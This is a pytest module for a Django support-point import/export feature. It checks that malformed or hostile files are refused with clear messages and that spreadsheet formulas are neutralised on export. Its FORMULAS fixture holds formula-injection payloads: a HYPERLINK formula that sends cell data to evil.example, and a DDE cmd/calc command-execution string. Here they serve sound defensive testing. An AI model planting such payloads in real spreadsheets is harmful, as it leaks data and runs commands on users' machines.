"""The hostile and careless support point files (paraat/testing/hostile/points): each is refused
with a message naming file, row and field, or imported correctly; never a traceback; a refused
file leaves the database as it was. Runs on SQLite and, in CI, on PostgreSQL."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from paraat.supportpoints import services
from paraat.supportpoints.models import Contact, SupportPoint
from paraat.supportpoints.tests.factories import SupportPointFactory
from paraat.testing import factories
from paraat.testing.hostile_files import HOSTILE_DIR, corpus, outcome
from paraat.testing.personas import Cast

pytestmark = pytest.mark.django_db

IMPORTED = {"16-utf16.csv"}
# The row and field each refusal must name (row None: the whole file).
REFUSED_AT: dict[str, tuple[int | None, str | None]] = {
    "01-inf.csv": (2, "lon"),
    "02-huge.csv": (2, "lon"),
    "03-nan.csv": (2, "geometry"),
    "04-contacts-bad-types.csv": (2, "contacts"),
    "06-epsg99999.geojson": (None, "crs"),
    "07-capacity-1e30.csv": (2, "capacity"),
    "08-long-code.csv": (2, "code"),
    "10-truncated.geojson": (None, None),
    "11-outside-nl.csv": (2, "lon"),
    "12-bad-date.csv": (2, "generator_last_test"),
    "13-one-bad-of-many.csv": (202, "coordination_point"),
    "14-rd-as-wgs84.geojson": (1, "lon"),
    "15-xlsx-formulas.xlsx": (2, "geometry"),
}


@pytest.fixture
def region(cast: Cast) -> Cast:
    """Boekel and Oss with the coordination point CP-GRAVE that the corpus' rows refer to."""
    factories.MunicipalityFactory(
        region=cast.region,
        code="GM0755",
        name="Boekel",
        centre_rd=(175_000, 405_000),
        size_m=60_000,
    )
    services.ensure_norm_profile(region=cast.region)
    SupportPointFactory(region=cast.region, code="CP-GRAVE", name="Grave", at=(180_000, 415_000))
    return cast


def test_it_knows_what_every_file_of_the_corpus_must_give() -> None:
    assert set(corpus("points")) == IMPORTED | set(REFUSED_AT)


@pytest.mark.parametrize("name", sorted(REFUSED_AT))
def test_it_refuses_a_hostile_file_naming_file_row_and_field(region: Cast, name: str) -> None:
    result = outcome("import_points", str(HOSTILE_DIR / "points" / name), "--region", "VR21")
    assert result.refused, result.message
    row, field = REFUSED_AT[name]
    where = name + (f", rij {row}" if row is not None else "")
    where += f", veld '{field}'" if field else ""
    assert f"- {where}" in result.message
    assert not result.changed


def test_it_imports_a_utf16_file_from_excel(region: Cast) -> None:
    result = outcome(
        "import_points", str(HOSTILE_DIR / "points" / "16-utf16.csv"), "--region", "VR21"
    )
    assert not result.refused, result.message
    assert SupportPoint.objects.filter(code="RS-1").exists()


@pytest.mark.parametrize(
    ("capacity", "message"),
    [
        (str(2**31), "2.14748e+09 is not plausible here: at most 100000."),
        (str(2**63), "9.22337e+18 is not plausible here: at most 100000."),
    ],
)
def test_it_gives_the_same_answer_for_huge_numbers_on_every_database(
    region: Cast, tmp_path: Path, capacity: str, message: str
) -> None:
    path = tmp_path / "groot.csv"
    path.write_text(
        f"code;name;tier;lifecycle;lon;lat;capacity\nRS-1;T;local;prepared;5,52;51,76;{capacity}\n"
    )
    from django.utils import translation

    with translation.override("en"):
        result = outcome("import_points", str(path), "--region", "VR21")
    assert result.refused
    assert f"groot.csv, row 2, field 'capacity': {message}" in result.message
    assert not result.changed


def test_it_refuses_contacts_whose_values_are_not_text(region: Cast, tmp_path: Path) -> None:
    contacts = [{"role": "key_holder", "name": "Jan", "phone": 612345678, "available_24_7": "ja"}]
    path = tmp_path / "contact.csv"
    path.write_text(
        "code;name;tier;lifecycle;lon;lat;contacts\n"
        f"RS-1;T;local;prepared;5,52;51,76;{json.dumps(contacts).replace(';', ',')}\n".replace(
            '"', '""'
        )
        .replace(";[", ';"[')
        .replace("]\n", ']"\n')
    )
    result = outcome("import_points", str(path), "--region", "VR21")
    assert result.refused, result.message
    assert (
        "contact.csv, rij 2, veld 'contacts': contactpersoon 1: 'phone' moet tekst zijn"
        in result.message
    )
    assert "'available_24_7' moet true of false zijn" in result.message
    assert not Contact.objects.exists()


FORMULAS = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "street": "+31 6 12345678",
    "city": "-2+3",
    "notes": "@SUM(1+1)*cmd|' /C calc'!A0",
    "source": "\t=1+1",
}


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_it_neutralises_formulas_in_exports_and_imports_them_back_unchanged(
    region: Cast, tmp_path: Path, suffix: str
) -> None:
    from openpyxl import load_workbook

    from paraat.supportpoints import exchange

    point = SupportPointFactory(
        region=region.region, code="EVIL-1", name="x", at=(180_000, 410_000)
    )
    SupportPoint.objects.filter(pk=point.pk).update(**FORMULAS)
    path = tmp_path / f"punten{suffix}"
    exchange.export_points(SupportPoint.objects.filter(code="EVIL-1"), path)
    if suffix == ".csv":
        text = path.read_text(encoding="utf-8")
        for value in FORMULAS.values():
            assert f";{value}" not in text.replace('"', "")
        assert ";'=HYPERLINK(" in text.replace('"', "")
        assert ";'@SUM(" in text
    else:
        sheet = load_workbook(path).active  # not data_only: formulas would show as formulas
        header = [c.value for c in sheet[1]]
        row = {header[i]: c for i, c in enumerate(sheet[2])}
        for key, value in FORMULAS.items():
            assert row[key].data_type == "s", key
            assert row[key].value == value
    SupportPoint.objects.filter(pk=point.pk).update(name="gewist", notes="")
    result = outcome("import_points", str(path), "--region", "VR21")
    assert not result.refused, result.message
    point.refresh_from_db()
    assert {key: getattr(point, key) for key in FORMULAS} == {
        **FORMULAS,
        "source": FORMULAS["source"].strip(),  # the reader strips cells; the tab is whitespace
    }
